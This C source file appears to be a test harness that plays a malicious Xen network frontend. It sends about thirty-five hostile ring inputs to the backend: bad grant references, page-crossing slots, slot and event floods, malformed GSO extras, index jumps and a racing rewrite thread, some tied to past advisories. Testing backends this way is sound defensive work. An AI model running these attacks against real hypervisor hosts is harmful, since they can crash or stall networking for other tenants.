// SPDX-License-Identifier: GPL-2.0
/* Attacks by what a frontend writes to its f2b ring. */
#include <pthread.h>

#include "front.h"

/* What an honest backend takes to answer, or shows that it will not. */
#define ANSWER_MS	1500u
#define SILENCE_MS	300u
#define FLOOD_FRAMES	10000u
#define FLOOD_BATCH	125u
#define RACE_ROUNDS	300u

static void put_frame(struct front *f)
{
	frame_udp(f->data, FRAME_LEN);
	put_request(f, f->data_ref[0], 0, 0, FRAME_LEN);
}

/* What must be answered. */
static void send_and_collect(struct front *f)
{
	send_all(f);
	collect(f, ANSWER_MS);
}

/* What stops the interface: nothing may be answered. */
static void send_fatal(struct front *f)
{
	send_all(f);
	collect(f, SILENCE_MS);
}

static void put_slots(struct front *f, u32 count, u16 first, u16 each)
{
	u32 i;

	frame_udp(f->data, FRAME_LEN);
	for (i = 0; i < count; i++)
		put_request(f, f->data_ref[i % DATA_PAGES],
			    i + 1 < count ? F2B_MORE_DATA : 0, 0,
			    i ? each : first);
}

/* A frame of one slot, and extras that are the attack. */
static void put_with_extra(struct front *f, const struct xennet_extra *extra)
{
	frame_udp(f->data, FRAME_LEN);
	put_request(f, f->data_ref[0], F2B_EXTRA_INFO | F2B_CSUM_BLANK, 0,
		    FRAME_LEN);
	put_extra(f, extra);
}

static void good(struct front *f)
{
	u32 i;

	for (i = 0; i < 20; i++)
		put_frame(f);
	send_and_collect(f);
}

static void bad_gref(struct front *f)
{
	put_request(f, BAD_REF, 0, 0, FRAME_LEN);
	send_and_collect(f);
}

/* Too long for a head: fragments, of which one does not come. */
static void bad_gref_long(struct front *f)
{
	frame_udp(f->data, FRAME_LEN);
	put_request(f, f->data_ref[0], F2B_MORE_DATA, 0, 8000);
	put_request(f, f->data_ref[1], F2B_MORE_DATA, 0, 3000);
	put_request(f, BAD_REF, 0, 0, 2000);
	send_and_collect(f);
}

/* The other way round. */
static void bad_gref_head(struct front *f)
{
	put_request(f, BAD_REF, F2B_MORE_DATA, 0, 8000);
	put_request(f, f->data_ref[1], F2B_MORE_DATA, 0, 3000);
	put_request(f, f->data_ref[2], 0, 0, 2000);
	send_and_collect(f);
}

static void crosses_page(struct front *f)
{
	put_request(f, f->data_ref[0], 0, XENNET_PAGE_SIZE - 10, FRAME_LEN);
	send_fatal(f);
}

static void crosses_page_later(struct front *f)
{
	put_request(f, f->data_ref[0], F2B_MORE_DATA, 0, 3000);
	put_request(f, f->data_ref[1], 0, 0xffff, 2000);
	send_fatal(f);
}

static void cut_off(struct front *f)
{
	put_request(f, f->data_ref[0], F2B_MORE_DATA, 0, 200);
	send_fatal(f);
}

static void too_many(struct front *f)
{
	put_slots(f, XENNET_SLOTS_MAX + 1, 2000, 100);
	send_and_collect(f);
}

static void slot_flood(struct front *f)
{
	put_slots(f, XENNET_RING_SIZE, 60000, 100);
	send_fatal(f);
}

static void oversize(struct front *f)
{
	put_slots(f, XENNET_SLOTS_MAX, 65535, XENNET_PAGE_SIZE);
	send_and_collect(f);
}

static void size_mismatch(struct front *f)
{
	put_slots(f, 2, 100, 200);
	send_and_collect(f);
}

static void size_zero(struct front *f)
{
	put_slots(f, 2, 0, 0);
	send_and_collect(f);
}

/* XSA-448: the slots behind the first carry nothing. */
static void empty_slots(struct front *f)
{
	put_slots(f, XENNET_SLOTS_MAX, FRAME_LEN, 0);
	send_and_collect(f);
}

/* XSA-432: as many slots as there may be, of a byte each. */
static void crumbs(struct front *f)
{
	put_slots(f, XENNET_SLOTS_MAX, FRAME_LEN, 1);
	send_and_collect(f);
}

static void runt(struct front *f)
{
	put_request(f, f->data_ref[0], 0, 0, XENNET_PACKET_MIN - 1);
	send_and_collect(f);
}

static void extra_unknown(struct front *f)
{
	struct xennet_extra extra = { .type = XENNET_EXTRA_TYPES + 4 };

	put_with_extra(f, &extra);
	send_fatal(f);
}

static void extra_endless(struct front *f)
{
	struct xennet_extra extra = {
		.type = XENNET_EXTRA_HASH, .flags = XENNET_EXTRA_MORE,
	};
	u32 i;

	put_with_extra(f, &extra);
	for (i = 2; i < XENNET_RING_SIZE; i++)
		put_extra(f, &extra);
	send_fatal(f);
}

static void extra_control(struct front *f)
{
	struct xennet_extra extra = { .type = XENNET_EXTRA_MCAST_ADD };

	put_with_extra(f, &extra);
	send_and_collect(f);
}

static void put_mcast(struct front *f, u8 type, u8 last)
{
	struct xennet_extra extra = {
		.type = type, .mcast.addr = { 0x33, 0x33, 0, 0, 0, last },
	};

	put_with_extra(f, &extra);
}

/* As many as fit, one of them again, one too many; one taken out. */
static void mcast_list(struct front *f)
{
	u8 i;

	for (i = 0; i < 64; i++)
		put_mcast(f, XENNET_EXTRA_MCAST_ADD, i);
	put_mcast(f, XENNET_EXTRA_MCAST_ADD, 0);
	put_mcast(f, XENNET_EXTRA_MCAST_ADD, 64);
	put_mcast(f, XENNET_EXTRA_MCAST_DEL, 0);
	send_and_collect(f);
}

static void send_gso(struct front *f, u8 type, u16 size, bool fatal)
{
	struct xennet_extra extra = {
		.type = XENNET_EXTRA_GSO, .gso.type = type, .gso.size = size,
	};

	put_with_extra(f, &extra);
	if (fatal)
		send_fatal(f);
	else
		send_and_collect(f);
}

static void gso_type(struct front *f)
{
	send_gso(f, 7, 1448, true);
}

static void gso_size(struct front *f)
{
	send_gso(f, XENNET_GSO_TCPV4, 0, true);
}

static void gso_udp(struct front *f)
{
	send_gso(f, XENNET_GSO_TCPV4, 1448, false);
}

/* XSA-39's kin: a short list of slots that makes a long list of segments. */
static void gso_tiny(struct front *f)
{
	struct xennet_extra extra = {
		.type = XENNET_EXTRA_GSO,
		.gso.type = XENNET_GSO_TCPV4,
		.gso.size = 1,
	};
	u32 i;

	frame_tcp(f->data, 65535);
	put_request(f, f->data_ref[0], F2B_EXTRA_INFO | F2B_MORE_DATA |
		    F2B_CSUM_BLANK, 0, 65535);
	put_extra(f, &extra);
	for (i = 1; i < 15; i++)
		put_request(f, f->data_ref[i], F2B_MORE_DATA, 0,
			    XENNET_PAGE_SIZE);
	put_request(f, f->data_ref[i], 0, 0, XENNET_PAGE_SIZE);
	send_and_collect(f);
}

/* To be segmented, but with a checksum that is not said to be blank. */
static void gso_whole(struct front *f)
{
	struct xennet_extra extra = {
		.type = XENNET_EXTRA_GSO,
		.gso.type = XENNET_GSO_TCPV4,
		.gso.size = 1448,
	};

	frame_tcp(f->data, GSO_LEN);
	put_request(f, f->data_ref[0], F2B_EXTRA_INFO, 0, GSO_LEN);
	put_extra(f, &extra);
	send_and_collect(f);
}

static void blank(struct front *f, u16 protocol, u16 len)
{
	frame_bare(f->data, protocol);
	put_request(f, f->data_ref[0], F2B_CSUM_BLANK, 0, len);
	send_and_collect(f);
}

static void csum_arp(struct front *f)
{
	blank(f, 0x0806, FRAME_LEN);
}

static void csum_short(struct front *f)
{
	blank(f, 0x0800, XENNET_PACKET_MIN + 10);
}

static void csum_vlans(struct front *f)
{
	blank(f, 0x8100, XENNET_PACKET_MIN + 1);
}

static void jump_to(struct front *f, u32 prod)
{
	WRITE_ONCE(f->f2b_ring->hdr.req_prod, prod);
	front_notify(f);
	sleep_ms(SILENCE_MS);
}

static void index_ahead(struct front *f)
{
	jump_to(f, f->f2b.req_prod + XENNET_RING_SIZE + 1);
}

static void index_back(struct front *f)
{
	good(f);
	jump_to(f, f->f2b.req_prod - 1);
}

/* Words of the ring's head that are the backend's, or only hints. */
static void garbage_head(struct front *f)
{
	struct xennet_sring_hdr *hdr = &f->f2b_ring->hdr;
	u32 i;

	for (i = 0; i < 20; i++) {
		WRITE_ONCE(hdr->rsp_prod, rnd());
		WRITE_ONCE(hdr->req_event, rnd());
		WRITE_ONCE(hdr->rsp_event, rnd());
		put_frame(f);
		send_all(f);
		sleep_ms(5);
		/* The backend's next answer shows its own index again. */
		WRITE_ONCE(hdr->rsp_prod, f->f2b.rsp_cons);
	}
	put_frame(f);
	send_and_collect(f);
}

static void flood(struct front *f)
{
	u32 sent, i;

	for (sent = 0; sent < FLOOD_FRAMES; sent += FLOOD_BATCH) {
		for (i = 0; i < FLOOD_BATCH; i++)
			put_request(f, BAD_REF, 0, 0, FRAME_LEN);
		send_and_collect(f);
	}
}

static bool race_over;

static void *rewrite(void *arg)
{
	struct front *f = arg;

	while (!READ_ONCE(race_over)) {
		u32 idx = rnd() % XENNET_RING_SIZE;
		struct f2b_request req = {
			.gref = rnd() & 1 ? f->data_ref[0] : BAD_REF,
			.id = idx,
			.size = rnd() & 1 ? FRAME_LEN : 7,
			.flags = rnd() & 1 ? F2B_CSUM_BLANK : 0,
		};

		f2b_write_request(f->f2b_ring, idx, &req);
	}
	return NULL;
}

/* XSA-155: each slot becomes another, never a fatal one, at any time. */
static void race(struct front *f)
{
	pthread_t thread;
	u32 round, i;

	if (pthread_create(&thread, NULL, rewrite, f))
		die("thread");
	for (round = 0; round < RACE_ROUNDS; round++) {
		for (i = 0; i < 16; i++)
			put_frame(f);
		send_and_collect(f);
	}
	WRITE_ONCE(race_over, true);
	pthread_join(thread, NULL);
}

static void put_random(struct front *f)
{
	struct xennet_extra extra = {
		.type = rnd() % 6, .flags = rnd() & 1,
		.gso.size = rnd() & 0x7ff, .gso.type = rnd() & 3,
	};

	if (!(rnd() % 5))
		put_extra(f, &extra);
	else
		put_request(f, rnd() % 4 ? f->data_ref[rnd() % DATA_PAGES] : rnd(),
			    rnd() & 0xf, rnd() & 0x7ff, rnd() & 0xfff);
}

/* Anything, in any order; as a rule the interface soon stops. */
static void chaos(struct front *f)
{
	u32 i;

	for (i = 0; i < DATA_PAGES; i++)
		frame_tcp(f->data + i * XENNET_PAGE_SIZE, 3000);
	for (i = now_ms() & 0xff; i; i--)
		rnd();
	for (i = 0; i < 200; i++)
		put_random(f);
	send_all(f);
	collect(f, SILENCE_MS);
}

/* Has frames underway in the queue of a slow NIC, and says no more. */
static void desert(struct front *f)
{
	u32 i;

	frame_udp(f->data, 1400);
	for (i = 0; i < 40; i++) {
		put_request(f, f->data_ref[0], F2B_MORE_DATA, 0, 1400);
		put_request(f, f->data_ref[1], 0, 0, 600);
	}
	send_all(f);
	sleep_ms(4 * PATIENCE_MS); /* the guest dies meanwhile */
}

/* XSA-332: events without end and without work. */
static void storm(struct front *f)
{
	unsigned int start = now_ms(), count = 0;

	while (now_ms() - start < STORM_MS) {
		front_notify(f);
		count++;
	}
	printf("notified %u ", count);
	put_frame(f);
	send_and_collect(f);
}

const struct front_attack f2b_attacks[] = {
	{ "good", good, .spares = true },
	{ "bad-gref", bad_gref, .spares = true },
	{ "bad-gref-long", bad_gref_long, .spares = true },
	{ "bad-gref-head", bad_gref_head, .spares = true },
	{ "crosses-page", crosses_page },
	{ "crosses-page-later", crosses_page_later },
	{ "cut-off", cut_off },
	{ "too-many", too_many, .spares = true },
	{ "slot-flood", slot_flood },
	{ "oversize", oversize, .spares = true },
	{ "size-mismatch", size_mismatch, .spares = true },
	{ "size-zero", size_zero, .spares = true },
	{ "empty-slots", empty_slots, .spares = true },
	{ "crumbs", crumbs, .spares = true },
	{ "runt", runt, .spares = true },
	{ "extra-unknown", extra_unknown },
	{ "extra-endless", extra_endless },
	{ "extra-control", extra_control, .spares = true },
	{ "mcast-list", mcast_list, .spares = true },
	{ "gso-type", gso_type },
	{ "gso-size", gso_size },
	{ "gso-udp", gso_udp, .spares = true },
	{ "gso-tiny", gso_tiny, .spares = true },
	{ "gso-whole", gso_whole, .spares = true },
	{ "csum-arp", csum_arp, .spares = true },
	{ "csum-short", csum_short, .spares = true },
	{ "csum-vlans", csum_vlans, .spares = true },
	{ "index-ahead", index_ahead },
	{ "index-back", index_back },
	{ "garbage-head", garbage_head, .spares = true },
	{ "flood", flood, .spares = true },
	{ "race", race, .spares = true },
	{ "chaos", chaos },
	{ "desert", desert, .stays = true },
	{ "storm", storm, .spares = true },
	{ }
};
